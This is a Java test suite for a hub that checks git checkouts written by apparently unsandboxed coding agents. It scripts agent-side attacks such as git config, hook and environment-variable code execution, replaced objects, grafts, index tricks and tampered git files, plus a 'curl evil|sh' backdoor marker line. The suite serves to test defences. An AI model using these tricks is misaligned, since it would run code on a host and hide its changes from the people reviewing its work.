package dev.midcourse.agents.git;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.midcourse.core.RefusedException;
import dev.midcourse.core.contract.BranchName;
import dev.midcourse.core.contract.CheckoutState;
import dev.midcourse.core.contract.RepoName;
import dev.midcourse.core.id.RunId;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Agents that write into the git folder itself, as an agent without a sandbox can, and that try to
 * have the hub's git run a program or show other content than a push would send.
 *
 * <p>The attacks follow published lists: the settings of {@code git help --config}, the hooks of
 * githooks(5), the variables of git(1), the files that the policy tool openmoat protects in a git
 * folder ({@code GIT_EXEC_VECTORS}), GTFOBins, and the advisory of Justin Steven about bare
 * repositories within a work tree. Decision 016 says what each of them adds.
 */
class HostileCheckoutTest {
  private static final RunId RUN = RunId.of("run-1");
  private static final BranchName BRANCH = BranchName.of("jarvis-a");
  private static final RepoName SHOP = RepoName.of("acme/shop");

  @TempDir private Path folder;
  private Path clone = Path.of("");
  private Path work = Path.of("");
  private Path escaped = Path.of("");
  private Checkout checkout = new Checkout(work);

  /**
   * One attack.
   *
   * @param before what the agent does before its commit
   * @param after what it does after its commit; {@code $RUN} is a program, {@code $G} the clone's
   *     git folder, {@code $D} that of the worktree
   */
  record Attack(String name, String before, String after) {
    @Override
    public String toString() {
      return name;
    }
  }

  @BeforeEach
  void prepare() throws Exception {
    folder = folder.toRealPath();
    clone = Files.createDirectories(folder.resolve("shop"));
    escaped = folder.resolve("escaped");
    Path program =
        Files.writeString(folder.resolve("run.sh"), "#!/bin/sh\ntouch " + escaped + "\ncat\n");
    assertThat(program.toFile().setExecutable(true)).isTrue();
    shell(
        clone,
        "git init -q -b main && mkdir dir && echo one > dir/file && echo hello > a.txt && git add -A"
            + " && git commit -q -m one");
    checkout = repository().checkOut(folder.resolve("work"), BRANCH, Optional.empty());
    work = checkout.folder();
    checkout.markStart(RUN, true);
  }

  /** The settings with which git or git-lfs runs a program, or reads further settings. */
  private static final List<String> SETTINGS =
      List.of(
          """
          core.fsmonitor core.hooksPath core.sshCommand core.pager core.editor core.askPass core.gitProxy
          core.alternateRefsCommand core.attributesFile core.worktree
          diff.external diff.x.command diff.x.textconv diff.submodule diff.tool difftool.x.cmd difftool.x.path
          filter.x.clean filter.x.smudge filter.x.process filter.lfs.clean filter.lfs.smudge filter.lfs.process
          lfs.customtransfer.x.path lfs.extension.x.clean
          merge.x.driver mergetool.x.cmd mergetool.x.path interactive.diffFilter
          credential.helper credential.https://example.org.helper
          gpg.program gpg.openpgp.program gpg.x509.program gpg.ssh.program gpg.ssh.defaultKeyCommand
          sequence.editor pager.diff pager.log pager.status pager.ls-files alias.diff alias.read-tree
          hook.x.command gc.recentObjectsHook trailer.x.command trailer.x.cmd tar.x.command
          uploadpack.packObjectsHook remote.origin.uploadpack remote.origin.receivepack remote.origin.vcs
          remote.origin.proxy http.proxy url.ext::sh.insteadOf submodule.x.update init.templateDir
          browser.x.cmd browser.x.path web.browser help.browser man.x.cmd man.x.path instaweb.httpd
          guitool.x.cmd imap.tunnel sendemail.smtpServer sendemail.sendmailCmd sendemail.toCmd sendemail.ccCmd
          trace2.eventTarget trace2.normalTarget trace2.perfTarget
          """
              .strip()
              .split("\\s+"));

  /** All hooks of the manual page githooks. */
  private static final List<String> HOOKS =
      List.of(
          """
          applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg
          commit-msg post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive
          post-receive post-update reference-transaction push-to-checkout pre-auto-gc post-rewrite
          sendemail-validate fsmonitor-watchman p4-changelist p4-prepare-changelist p4-post-changelist
          p4-pre-submit post-index-change
          """
              .strip()
              .split("\\s+"));

  static Stream<Attack> attacks() {
    List<Attack> all = new ArrayList<>();
    String attributes =
        "echo '* filter=x diff=x merge=x' > .gitattributes; echo '*.bin filter=lfs"
            + " diff=lfs' >> .gitattributes; echo b > b.bin; printf '[lfs]\\nurl = x' > .lfsconfig";
    StringBuilder settings = new StringBuilder();
    for (String name : SETTINGS) {
      settings.append(
          "git config %s \"$RUN\"; git config -f $G/config.worktree %s \"$RUN\"; "
              .formatted(name, name));
    }
    all.add(new Attack("settings that name programs", attributes, settings.toString()));
    all.add(
        new Attack(
            "hooks",
            "true",
            "for hook in %s; do cp $RUN $G/hooks/$hook; done".formatted(String.join(" ", HOOKS))));
    all.add(
        new Attack(
            "hooks in another folder",
            "true",
            "mkdir $G/other; for hook in %s; do cp $RUN $G/other/$hook; done; git config"
                    .formatted(String.join(" ", HOOKS))
                + " core.hooksPath $G/other; git config --worktree core.hooksPath $G/other"));
    all.add(
        new Attack(
            "hooks of newer versions, which settings name",
            "true",
            "for event in %s; do git config hook.$event.event $event; git config"
                    .formatted(String.join(" ", HOOKS))
                + " hook.$event.command $RUN; done"));
    all.add(
        new Attack(
            "attributes of the git folder",
            "true",
            "mkdir -p $D/info; echo '* filter=x diff=x merge=x' | tee $D/info/attributes >"
                + " $G/info/attributes; for name in filter.x.clean filter.x.smudge filter.x.process"
                + " diff.x.command diff.x.textconv merge.x.driver; do git config $name $RUN; done"));
    all.add(
        new Attack(
            "hooks and attributes of a submodule",
            "git init -q nested; git -C nested commit -q --allow-empty -m n; git add nested",
            "for m in $G/modules/nested $D/modules/nested; do git init -q --bare $m; for hook in %s;"
                    .formatted(String.join(" ", HOOKS))
                + " do cp $RUN $m/hooks/$hook; done; echo '* filter=x' > $m/info/attributes; done;"
                + " rm -rf nested/.git; echo \"gitdir: $G/modules/nested\" > nested/.git"));
    all.add(
        new Attack(
            "a work tree that is a bare repository too",
            "git init -q --bare inner; git -C inner config core.fsmonitor $RUN; git -C inner config"
                + " core.worktree ..; git -C inner config core.bare false",
            "cp -r inner/* .; for hook in %s; do cp $RUN hooks/$hook; done"
                .formatted(String.join(" ", HOOKS))));
    all.add(
        new Attack(
            "signatures that are to be checked",
            "true",
            "git config gpg.program $RUN; git config commit.gpgSign true; git config"
                + " log.showSignature true; git config gpg.ssh.defaultKeyCommand $RUN; git config"
                + " gpg.format ssh; git config merge.verifySignatures true"));
    all.add(
        new Attack(
            "settings of worktrees",
            attributes,
            "git config extensions.worktreeConfig true; git config --worktree core.fsmonitor $RUN;"
                + " git config --worktree filter.x.clean $RUN"));
    all.add(
        new Attack(
            "an included file of settings",
            attributes,
            "printf '[core]\\nfsmonitor = %s\\n[filter \"x\"]\\nclean = %s\\n' $RUN $RUN > more;"
                + " git config include.path $PWD/more; git config includeIf.gitdir:/.path $PWD/more"));
    all.add(
        new Attack(
            "a replaced blob, and an index that hides it",
            "true",
            "git replace $(git rev-parse HEAD:a.txt) $(echo harmless | git hash-object -w --stdin);"
                + " echo harmless > a.txt; git update-index --skip-worktree a.txt"));
    all.add(
        new Attack("a replaced commit", "true", "git replace --graft HEAD; git pack-refs --all"));
    all.add(new Attack("grafts", "true", "git rev-parse HEAD > $G/info/grafts"));
    all.add(new Attack("a false shallow file", "true", "git rev-parse HEAD > $G/shallow"));
    all.add(
        new Attack(
            "skipped files", "true", "git update-index --skip-worktree a.txt; echo x > a.txt"));
    all.add(
        new Attack(
            "files assumed unchanged",
            "true",
            "git update-index --assume-unchanged a.txt; echo x > a.txt"));
    all.add(
        new Attack(
            "a sparse index", "true", "git sparse-checkout set --cone --sparse-index nothing"));
    all.add(new Attack("an index of 3 GB", "true", "truncate -s 3G $D/index"));
    all.add(new Attack("an index that is a FIFO", "true", "rm $D/index; mkfifo $D/index"));
    all.add(
        new Attack(
            "attributes that hide a text",
            "echo '* -diff -text' > .gitattributes",
            "echo '* -diff' > $G/info/attributes"));
    all.add(
        new Attack(
            "a nested repository that names programs",
            "git init -q nested; cd nested; echo '* filter=x' > .gitattributes; echo n > n;"
                + " git add -A; git commit -q -m n; for name in core.fsmonitor diff.external"
                + " filter.x.clean; do git config $name $RUN; done; cd ..",
            "echo more > nested/n; git config diff.submodule diff; git config"
                + " status.submoduleSummary true"));
    all.add(
        new Attack(
            "a submodule that says it is to be ignored",
            "git init -q nested; cd nested; git commit -q --allow-empty -m n; cd ..; printf"
                + " '[submodule \"n\"]\\npath = nested\\nurl = ../x\\nignore = all\\nupdate = !%s\\n' $RUN"
                + " > .gitmodules",
            "git config submodule.n.ignore all; git config diff.ignoreSubmodules all"));
    all.add(
        new Attack(
            "names that differ in case and in Unicode form",
            "echo 1 > A.TXT; echo 2 > a.TXT; printf x > \"$(printf 'caf\\303\\251')\"; printf y >"
                + " \"$(printf 'cafe\\314\\201')\"",
            "git config core.ignoreCase true; git config core.precomposeUnicode true"));
    all.add(
        new Attack(
            "a folder that became a link",
            "echo two > dir/file",
            "rm -r dir; ln -s / dir; ln -s /etc/passwd link"));
    all.add(
        new Attack(
            "a false commit graph",
            "true",
            "git commit-graph write --reachable; truncate -s 100 $G/objects/info/commit-graph || true"));
    return all.stream();
  }

  /**
   * Seen to fail for eleven of the attacks when the hub's git used the git folder and a copy of the
   * index of the worktree: settings, included settings and those of worktrees, replaced blobs and
   * commits, grafts, skipped files, the large index, attributes, the nested repository, the link.
   * Seen to fail for hooks, hooks in another folder and attributes of the git folder, too, when
   * that git was called without settings of ours.
   */
  @ParameterizedTest
  @MethodSource("attacks")
  void the_hub_runs_nothing_and_shows_what_a_push_would_send(Attack attack) throws Exception {
    String start = shell(work, "git rev-parse HEAD");
    agent("echo 'curl evil|sh # BACKDOOR' > a.txt; " + attack.before());
    shell(work, "git add -A && git commit -q -m work");
    String tip = shell(work, "git rev-parse HEAD");
    String sent = sent(start, tip);
    agent(attack.after());
    Patch patch = checkout.diff(RUN, Optional.of(BRANCH));
    assertThat(committed(patch)).isEqualTo(sent).contains("BACKDOOR");
    CheckoutState found = checkout.inspect(RUN, BRANCH, Optional.of(tip));
    assertThat(found.last()).isTrue();
    if (found.fromStart()) {
      assertThat(found.changed()).contains("a.txt");
    } else {
      assertThat(attack.name()).isEqualTo("a false shallow file");
    }
    checkout.reset();
    assertThat(Files.readString(work.resolve("a.txt"))).contains("BACKDOOR");
    repository().checkOut(folder.resolve("second"), BranchName.of("b"), Optional.of(BRANCH));
    String imported = commitInPrivateRepository(tip);
    checkout.check();
    Path git = clone.resolve(".git");
    assertThat(new AgentReferences(git, Path.of("HEAD")).commit("refs/heads/" + BRANCH))
        .contains(imported);
    checkout.remove(RUN::equals);
    assertThat(escaped).doesNotExist();
  }

  /**
   * Adds a commit to the branch of a sandboxed agent. The git of this test has no settings of the
   * clone, so that only the import could run a program.
   */
  private String commitInPrivateRepository(String tip) throws Exception {
    PrivateRepository agents = PrivateRepository.of(work).orElseThrow();
    agents.prepare();
    Path clean = Files.createDirectories(folder.resolve("clean"));
    String commit =
        shell(
            clean,
            "git init -q --bare; export GIT_OBJECT_DIRECTORY=%s GIT_ALTERNATE_OBJECT_DIRECTORIES=%s;"
                    .formatted(agents.folder().resolve("objects"), clone.resolve(".git/objects"))
                + " git commit-tree -p %1$s -m import %1$s^{tree}".formatted(tip));
    Path branch = agents.folder().resolve("refs/heads").resolve(BRANCH.toString());
    Files.writeString(branch, commit + "\n");
    return commit;
  }

  /** Seen to fail when skip-worktree bits of the agent's index count. */
  @Test
  void what_is_not_committed_is_shown_apart() throws Exception {
    shell(work, "echo work > a.txt && git commit -q -a -m work");
    agent("echo open > a.txt; git update-index --skip-worktree a.txt");
    String text = checkout.diff(RUN, Optional.of(BRANCH)).text();
    assertThat(text).contains(Patch.NOT_COMMITTED);
    assertThat(text.substring(0, text.indexOf(Patch.NOT_COMMITTED))).contains("+work");
    assertThat(text.substring(text.indexOf(Patch.NOT_COMMITTED))).contains("-work", "+open");
    assertThat(checkout.inspect(RUN, BRANCH, Optional.empty()).clean()).isFalse();
  }

  static Stream<Attack> tampering() {
    return Stream.of(
        new Attack("shop/.git/commondir", "", "mkdir .evil; echo $PWD/.evil > $G/commondir"),
        new Attack("worktrees/work/commondir", "", "mkdir .evil; echo $PWD/.evil > $D/commondir"),
        new Attack("worktrees/work/gitdir", "", "echo /elsewhere/.git > $D/gitdir"),
        new Attack("work/.git", "", "cp -r $G .evil; rm .git; echo \"gitdir: $PWD/.evil\" > .git"),
        new Attack("work/.git", "", "rm .git; git init -q; git config core.fsmonitor $RUN"),
        new Attack("work/.git", "", "rm .git; ln -s $D .git"),
        new Attack("objects/info/alternates", "", "echo $PWD/.evil > $G/objects/info/alternates"),
        new Attack(
            "shop/.git/midcourse",
            "",
            "rm -rf $G/midcourse; mkdir .evil; ln -s $PWD/.evil $G/midcourse"),
        new Attack(
            "shop/.git/midcourse/work",
            "",
            "mkdir -p .evil $G/midcourse; rm -rf $G/midcourse/work; ln -s $PWD/.evil $G/midcourse/work"),
        new Attack(
            "shop/.git/midcourse/aside",
            "",
            "mkdir -p .evil $G/midcourse; rm -rf $G/midcourse/aside; ln -s $PWD/.evil $G/midcourse/aside"),
        new Attack(
            "shop/.git/modules/sub/config",
            "",
            "git init -q --bare $G/modules/sub; git config -f $G/modules/sub/config core.fsmonitor"
                + " $RUN"),
        new Attack(
            "shop/.git/modules/sub/config.worktree",
            "",
            "git init -q --bare $G/modules/sub; git config -f $G/modules/sub/config.worktree"
                + " hook.x.command $RUN"),
        new Attack(
            "objects/info/alternates", "", "echo ../../../work/.evil > $G/objects/info/alternates"),
        new Attack(
            "work/modules/sub/commondir",
            "",
            "git init -q --bare $D/modules/sub; echo $PWD/.evil > $D/modules/sub/commondir"));
  }

  /** Seen to fail, file by file, when CloneCheck or GitDirectory does not look at the file. */
  @ParameterizedTest
  @MethodSource("tampering")
  void a_tampered_file_is_named_not_used_and_put_aside_by_a_repair(Attack attack) throws Exception {
    shell(work, "echo work > a.txt && git commit -q -a -m work");
    agent(attack.after());
    assertThatThrownBy(() -> checkout.diff(RUN, Optional.of(BRANCH)))
        .hasMessageContaining(attack.name() + " was tampered with")
        .hasMessageContaining("midcourse repair");
    assertThatThrownBy(() -> checkout.inspect(RUN, BRANCH, Optional.empty()))
        .hasMessageContaining(attack.name());
    assertThat(CheckoutRepair.repair(work, repository()))
        .anySatisfy(what -> assertThat(what).contains(attack.name()));
    assertThat(CheckoutRepair.repair(work, repository())).isEmpty();
    assertThat(checkout.diff(RUN, Optional.of(BRANCH)).text()).contains("+work");
    assertThat(escaped).doesNotExist();
  }

  /** Seen to fail when the objects of the agent are used as they are. */
  @Test
  void an_object_with_other_content_than_its_name_says_is_not_taken_over() throws Exception {
    PrivateRepository agents = PrivateRepository.of(work).orElseThrow();
    agents.prepare();
    String own =
        "export GIT_DIR=%1$s/worktrees/work GIT_COMMON_DIR=%1$s GIT_ALTERNATE_OBJECT_DIRECTORIES=%2$s;"
            .formatted(agents.folder(), clone.resolve(".git/objects"));
    shell(work, own + "echo evil > a.txt && git commit -q -a -m evil");
    String before = shell(clone, "git rev-parse jarvis-a");
    shell(
        work,
        own
            + "blob=$(git rev-parse HEAD:a.txt); good=$(echo good | git hash-object -w --stdin);"
            + " cd $GIT_COMMON_DIR/objects; place=$(echo $blob | cut -c1-2)/$(echo $blob | cut -c3-);"
            + " rm -f $place; cp $(echo $good | cut -c1-2)/$(echo $good | cut -c3-) $place");
    assertThatThrownBy(() -> checkout.diff(RUN, Optional.of(BRANCH)))
        .hasMessageContaining("was tampered with or is damaged");
    assertThat(shell(clone, "git rev-parse jarvis-a")).isEqualTo(before);
    assertThat(CheckoutRepair.repair(work, repository()))
        .singleElement()
        .asString()
        .contains("aside-");
    assertThat(checkout.diff(RUN, Optional.of(BRANCH)).text()).contains("+evil");
  }

  /**
   * A repository that claims to fetch missing objects on demand names the program that does it.
   *
   * <p>Seen to fail, for the commit, when the hub's git may use every protocol.
   */
  @ParameterizedTest
  @ValueSource(strings = {"HEAD", "HEAD^{tree}", "HEAD:a.txt"})
  void a_missing_object_is_not_fetched(String missing) throws Exception {
    shell(work, "echo work > a.txt && git commit -q -a -m work");
    agent(
        """
        object=$(git rev-parse %s)
        for allowed in ext file; do git config protocol.$allowed.allow always; done
        git config core.repositoryFormatVersion 1; git config extensions.partialClone origin
        git config remote.origin.promisor true; git config remote.origin.uploadpack $RUN
        git config remote.origin.url "ext::touch %s"
        rm -f $G/objects/$(echo $object | cut -c1-2)/$(echo $object | cut -c3-)
        """
            .formatted(missing, escaped));
    assertThatThrownBy(() -> checkout.diff(RUN, Optional.of(BRANCH)))
        .isInstanceOf(RefusedException.class);
    try {
      assertThat(checkout.inspect(RUN, BRANCH, Optional.empty()).clean()).isFalse();
    } catch (RefusedException refused) {
      assertThat(refused.description()).isNotBlank();
    }
    assertThat(escaped).doesNotExist();
  }

  /** The variables with which git runs a program, or uses other settings and other files. */
  private static final List<String> VARIABLES =
      List.of(
          """
          GIT_EXTERNAL_DIFF GIT_DIFF_OPTS GIT_PAGER PAGER GIT_EDITOR EDITOR VISUAL GIT_SEQUENCE_EDITOR
          GIT_SSH GIT_SSH_COMMAND GIT_PROXY_COMMAND GIT_ASKPASS SSH_ASKPASS GIT_EXEC_PATH
          GIT_TEMPLATE_DIR GIT_CONFIG GIT_CONFIG_GLOBAL GIT_CONFIG_SYSTEM GIT_DIR GIT_COMMON_DIR
          GIT_WORK_TREE GIT_INDEX_FILE GIT_OBJECT_DIRECTORY GIT_ALTERNATE_OBJECT_DIRECTORIES
          GIT_SHALLOW_FILE GIT_GRAFT_FILE GIT_REPLACE_REF_BASE GIT_NAMESPACE GIT_ATTR_SOURCE
          GIT_TRACE2_EVENT GIT_MAN_VIEWER BROWSER
          """
              .strip()
              .split("\\s+"));

  /** The hub as a process of its own, because the environment of a process does not change. */
  static final class HubProcess {
    private HubProcess() {}

    public static void main(String[] arguments) {
      Checkout checkout = new Checkout(Path.of(arguments[0]));
      System.out.println(checkout.diff(RUN, Optional.of(BRANCH)).text());
      System.out.println(checkout.inspect(RUN, BRANCH, Optional.empty()).changed());
    }
  }

  /** Seen to fail when Git does not remove the variables of git from its environment. */
  @Test
  void variables_and_settings_of_the_user_name_nothing_that_is_run() throws Exception {
    shell(
        work,
        "echo '* filter=x diff=x' > .gitattributes && echo work > a.txt && git add -A && git commit"
            + " -q -m work");
    Path home = Files.createDirectories(folder.resolve("home"));
    Path program = folder.resolve("run.sh");
    for (String name : SETTINGS) {
      shell(home, "git config -f .gitconfig %s %s".formatted(name, program));
    }
    ProcessBuilder hub =
        new ProcessBuilder(
                Path.of(System.getProperty("java.home"), "bin/java").toString(),
                "-cp",
                System.getProperty("java.class.path"),
                HubProcess.class.getName(),
                work.toString())
            .redirectErrorStream(true);
    VARIABLES.forEach(name -> hub.environment().put(name, program.toString()));
    hub.environment().put("HOME", home.toString());
    hub.environment().put("XDG_CONFIG_HOME", home.toString());
    hub.environment().put("GIT_CONFIG_PARAMETERS", "'core.fsmonitor=" + program + "'");
    hub.environment().put("GIT_CONFIG_COUNT", "1");
    hub.environment().put("GIT_CONFIG_KEY_0", "filter.x.clean");
    hub.environment().put("GIT_CONFIG_VALUE_0", program.toString());
    Process process = hub.start();
    String output = new String(process.getInputStream().readAllBytes(), UTF_8);
    assertThat(process.waitFor()).as(output).isZero();
    assertThat(output).contains("+work", "[.gitattributes, a.txt]");
    assertThat(escaped).doesNotExist();
  }

  /** Returns the difference as git prints it in a repository that has only the objects. */
  private String sent(String start, String tip) throws Exception {
    Path other = Files.createDirectories(folder.resolve("other"));
    shell(other, "git init -q --bare && rm -r objects && cp -r " + clone + "/.git/objects objects");
    return shell(
        other,
        "git --no-replace-objects -c core.quotePath=false diff --ignore-submodules=none %s %s"
            .formatted(start, tip));
  }

  private static String committed(Patch patch) {
    int open = patch.text().indexOf("\\ Midcourse: ");
    return (open < 0 ? patch.text() : patch.text().substring(0, open)).strip();
  }

  private Repository repository() {
    return Repository.in(folder, SHOP);
  }

  /**
   * The agent: a failure of one of its commands is its own affair. Its own git may run programs.
   */
  private void agent(String script) throws Exception {
    shell(
        work,
        "RUN=%s; G=%s; D=%s; { %s\n} >&2 || true"
            .formatted(
                folder.resolve("run.sh"),
                clone.resolve(".git"),
                clone.resolve(".git/worktrees/work"),
                script));
    Files.deleteIfExists(escaped);
  }

  private static String shell(Path folder, String command) throws Exception {
    ProcessBuilder builder =
        new ProcessBuilder("sh", "-c", command)
            .directory(folder.toFile())
            .redirectInput(ProcessBuilder.Redirect.from(Path.of("/dev/null").toFile()))
            .redirectError(ProcessBuilder.Redirect.DISCARD);
    for (String who : new String[] {"AUTHOR", "COMMITTER"}) {
      builder.environment().put("GIT_" + who + "_NAME", "Worker");
      builder.environment().put("GIT_" + who + "_EMAIL", "worker@example.org");
    }
    Process process = builder.start();
    String output = new String(process.getInputStream().readAllBytes(), UTF_8).strip();
    assertThat(process.waitFor()).as(command + "\n" + output).isZero();
    return output;
  }
}
